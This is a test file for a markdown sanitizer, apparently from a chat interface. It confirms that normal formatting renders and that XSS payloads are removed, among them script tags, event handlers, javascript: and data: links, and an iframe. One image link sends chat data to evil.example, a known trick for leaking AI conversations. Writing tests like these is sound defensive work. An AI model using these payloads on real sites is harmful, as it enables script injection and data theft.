import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown';

describe('renderMarkdown', () => {
	it('renders ordinary markdown', () => {
		const html = renderMarkdown('**bold** and `code`\n\n- one\n- two');
		expect(html).toContain('<strong>bold</strong>');
		expect(html).toContain('<code>code</code>');
		expect(html).toMatch(/<ul>\s*<li>one<\/li>/);
	});

	it.each([
		['a script tag', '<script>alert(1)</script>hello', /<script|alert\(1\)/i],
		['an event handler', '<p onclick="alert(1)">x</p><img src=x onerror=alert(1)>', /onclick|onerror|<img/i],
		['a javascript: link', '[click](javascript:alert(1))', /javascript:/i],
		['a data: link', '[click](data:text/html;base64,PHNjcmlwdD4=)', /data:/i],
		['an iframe', '<iframe src="https://evil.example"></iframe>', /<iframe|evil\.example/i],
		['a markdown image that would leak the chat', '![x](https://evil.example/?q=secret)', /<img|evil\.example/i],
		['a style attribute', '<p style="background:url(https://evil.example)">x</p>', /style=|evil\.example/i]
	])('removes %s', (_label, input, forbidden) => {
		const html = renderMarkdown(input);
		expect(html).not.toMatch(forbidden);
	});

	it('keeps safe links and opens them without an opener', () => {
		const html = renderMarkdown('[docs](https://svelte.dev/docs)');
		expect(html).toContain('href="https://svelte.dev/docs"');
		expect(html).toContain('rel="noopener noreferrer nofollow"');
	});
});
